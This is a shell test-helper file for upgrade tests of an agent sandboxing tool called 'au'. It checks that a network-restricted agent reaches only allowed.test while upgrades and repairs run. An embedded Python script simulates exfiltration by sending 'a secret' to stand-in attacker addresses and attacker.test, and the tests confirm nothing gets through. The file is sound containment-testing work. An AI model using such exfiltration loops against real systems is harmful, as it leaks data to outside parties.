# shellcheck shell=sh
# The words of the upgrade scripts, sourced after lib.sh and internet/up.sh. alice has two agents: "agent" works in a folder of hers, and "closed", whose
# network is restricted, asks allowed.test, and sends to the attacker all the while.

# The files that change while both work, for unchanged.
busy=' /home/alice/(answers|plain/beat|plain|\.config/agent-as-unix-user\.seen)(/| |$)'

# older COMMIT sets $older to what e2e/older made of it.
older() {
	older=/opt/older/$1
	[ -d "$older" ] || skip "commit $1 is not in this checkout: git fetch --unshallow"
	command -v nft >/dev/null || skip "no nft"
}

# begin makes the agents with the au that is installed, and has them begin.
begin() {
	ok as alice au new -y --mem 512M --tasks 300
	ok as alice au new -y -a closed
	as alice mkdir plain held
	ok as alice au mount add --rw plain
	ok as alice au mount add -a closed held
	internet_up
	ok as alice au net restrict -a closed --allow allowed.test
	soon as alice sh -c 'cd held && au run -a closed -- curl -sS --max-time 20 https://allowed.test/'
	as alice tee plain/work >/dev/null <<-'SH'
		while [ ! -e enough ]; do
			date +%s.%N >beat
			sleep 0.1
		done
	SH
	as alice tee held/ask.py >/dev/null <<-'PYTHON'
		import os, socket, urllib.request
		while not os.path.exists("enough"):
		    for family, host in (socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8:2::66"):
		        with socket.socket(family, socket.SOCK_DGRAM) as s:
		            try: s.sendto(b"a secret", (host, 443))
		            except OSError: pass
		    for host in "allowed.test", "attacker.test":
		        try: print(urllib.request.urlopen("https://%s/" % host, timeout=2).read().decode(), flush=True)
		        except OSError: pass
	PYTHON
	seen=$(attacked)
	ok as alice touch /home/alice/answers # goes_on would make it root's
	as alice sh -c 'cd plain; au run sh work 2>~/said.agent; echo $? >~/status.agent' &
	as alice sh -c 'cd held; au run -a closed python3 ask.py >>~/answers 2>~/said.closed; echo $? >~/status.closed' &
	goes_on
}

# goes_on sees that both go on, that closed reaches what it may, and that nothing has reached the attacker.
goes_on() {
	rm -f /home/alice/plain/beat
	soon test -s /home/alice/plain/beat
	: >/home/alice/answers
	soon grep -qa 'INTERNET allowed' /home/alice/answers
	for agent in agent closed; do
		[ ! -e /home/alice/status.$agent ] || fail "the run of $agent ended with $(cat /home/alice/status.$agent): $(cat /home/alice/said.$agent)"
	done
	[ "$(attacked)" = "$seen" ] || fail "$(($(attacked) - seen)) packets reached the attacker"
}

# ends sees that both end as they would have.
ends() {
	touch /home/alice/plain/enough /home/alice/held/enough
	for agent in agent closed; do
		soon test -s /home/alice/status.$agent
		[ "$(cat /home/alice/status.$agent)" = 0 ] || fail "the run of $agent ended with $(cat /home/alice/status.$agent): $(cat /home/alice/said.$agent)"
	done
	[ "$(attacked)" = "$seen" ] || fail "$(($(attacked) - seen)) packets reached the attacker"
	rm /home/alice/plain/enough /home/alice/held/enough
}

# named FINDING... sees that doctor finds these of agents (LEVEL ID AGENT), and no others; what the machine lacks is none.
named() {
	as alice au doctor --json >/run/doctor.json || true
	python3 -c '
import json, sys
for f in json.load(sys.stdin)["findings"]:
    if f.get("agent") and f["id"] != "net-warning": print(f["level"], f["id"], f["agent"])' </run/doctor.json >/run/findings || fail "au doctor --json printed no findings"
	LC_ALL=C sort -o /run/findings /run/findings
	for finding; do echo "$finding"; done | diff - /run/findings >/run/differs || fail "doctor should find (<), and finds (>): $(cat /run/differs)"
}

# fixed sees that doctor --fix mends all of it, while what runs goes on.
fixed() {
	ok as alice au doctor --fix -y
	says "0 broken,"
	goes_on
	named
	works
}

# works sees that a new run of each does what it did before, and that limits are there.
works() {
	ok as alice sh -c 'cd plain && au run sh -c "echo x >made && rm made"'
	ok as alice sh -c 'cd held && au run -a closed cat ask.py'
	soon as alice sh -c 'cd held && au run -a closed -- curl -sS --max-time 20 https://allowed.test/'
	ok as alice au limits show
	says "512M"
	says "300"
}
